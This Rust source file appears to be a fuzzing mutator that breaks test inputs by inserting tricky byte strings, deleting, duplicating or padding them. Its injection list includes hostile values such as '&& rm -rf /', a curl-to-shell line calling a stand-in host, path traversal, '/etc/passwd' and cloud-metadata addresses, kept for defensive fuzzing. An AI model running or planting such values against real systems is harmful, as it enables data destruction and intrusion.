//! The ways in which an input is broken.

use arbitrary::{Result, Unstructured};

/// Bytes that some reader, somewhere, takes for something else.
const NASTY: &[&[u8]] = &[
    // Text.
    b"\0",
    b"\n",
    b"\r\n",
    b"\t",
    b"\x1b[2J",
    b"\x7f",
    b"\xc2\x85",
    b"\xe2\x80\xa8",
    b"\xe2\x80\x8b",
    b"\xe2\x80\xae",
    b"\xf3\xa0\x81\x81",
    b"\xef\xbb\xbf",
    b"\xc2\xa0",
    b"\xc3\xa9",
    b"\xef\xbc\x8f",
    b"\xe3\x80\x82",
    b"\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xc3",
    // Shells.
    b" ",
    b"'",
    b"\"",
    b"`",
    b"$",
    b"$(id)",
    b"${IFS}",
    b"${HOME}",
    b";",
    b"&",
    b"&&",
    b"|",
    b"||",
    b">",
    b"<",
    b"(",
    b")",
    b"{",
    b"}",
    b"*",
    b"?",
    b"[",
    b"]",
    b"~",
    b"#",
    b"!",
    b"%",
    b"%PATH%",
    b"^",
    b"\\",
    b"=",
    b"A=1 ",
    b",",
    b" -c ",
    b" --",
    b" -",
    b" -e",
    b"() {",
    b" && rm -rf /",
    b"; curl http://e.example | sh",
    // Paths and URLs.
    b"/",
    b"//",
    b"..",
    b"/../",
    b"%2e",
    b"%2E%2e/",
    b"%00",
    b"%0d%0a",
    b"%",
    b"%g0",
    b"%41",
    b"@",
    b":",
    b"://",
    b":80",
    b":0",
    b":65536",
    b"#x",
    b"?q=1",
    b".",
    b"-",
    b"_",
    b"xn--",
    b"xn--p1ai",
    b".local",
    b".nip.io",
    b"localhost",
    b"127.0.0.1",
    b"0x7f.1",
    b"0177.0.0.1",
    b"2130706433",
    b"169.254.169.254",
    b"[::1]",
    b"[::ffff:127.0.0.1]",
    b"[fe80::1%25eth0]",
    b"http:",
    b"file:///etc/passwd",
    b"javascript:",
    // JSON.
    b"\"a\":1,",
    b",\"a\":{}",
    b"[[[[[[",
    b"]]]]",
    b"null",
    b"1e400",
    b"-0",
    b"9007199254740993",
    b"\\u0000",
    b"\\ud800",
    b"\\u0061",
    b"\"__proto__\":1,",
    b"NaN",
    b"01",
    b"/*x*/",
    b"// x\n",
    b"true",
    b"\"shell\":true,",
    // Names.
    b"__",
    b"mcp__",
    b"LD_PRELOAD",
    b"_TOKEN",
    b"AWS_",
    b"constructor",
];

/// Lengths at which something changes.
const LIMITS: &[usize] = &[50, 63, 64, 100, 200, 253, 256, 500, 1000, 1024, 2048];

/// Breaks one of the inputs at one place, or does away with it.
///
/// # Errors
/// When the source of randomness fails (it does not: it runs out and gives zeros).
pub fn mutate(parts: &mut [Vec<u8>], source: &mut Unstructured<'_>) -> Result<()> {
    if parts.is_empty() {
        return Ok(());
    }
    let index = source.choose_index(parts.len())?;
    let other = parts[source.choose_index(parts.len())?].clone();
    let part = &mut parts[index];
    let at = place(part, source)?;
    match source.int_in_range(0..=9_u8)? {
        0..=3 => insert(part, at, source.choose(NASTY)?),
        4 => {
            let end = (at + source.int_in_range(1..=8_usize)?).min(part.len());
            part.drain(at..end);
        }
        5 => {
            let end = (at + source.int_in_range(1..=16_usize)?).min(part.len());
            let copy = part[at..end].to_vec();
            insert(part, end, &copy);
        }
        6 => match part.get_mut(at) {
            Some(byte) if byte.is_ascii_alphabetic() => *byte ^= 0x20,
            Some(byte) => *byte = source.arbitrary()?,
            None => part.push(source.arbitrary()?),
        },
        7 => {
            // Up to a length around a limit.
            let wanted = source.choose(LIMITS)? + source.int_in_range(0..=2_usize)? - 1;
            let filler = part.get(at).copied().unwrap_or(b'a');
            let missing = wanted.saturating_sub(part.len());
            insert(part, at, &vec![filler; missing]);
        }
        8 => insert(part, at, &other),
        _ => part.truncate(at),
    }
    Ok(())
}

/// A place, half of the time at one of the ends.
fn place(part: &[u8], source: &mut Unstructured<'_>) -> Result<usize> {
    Ok(match source.int_in_range(0..=3_u8)? {
        0 => part.len(),
        1 => 0,
        _ => source.int_in_range(0..=part.len())?,
    })
}

fn insert(part: &mut Vec<u8>, at: usize, bytes: &[u8]) {
    part.splice(at..at, bytes.iter().copied());
}
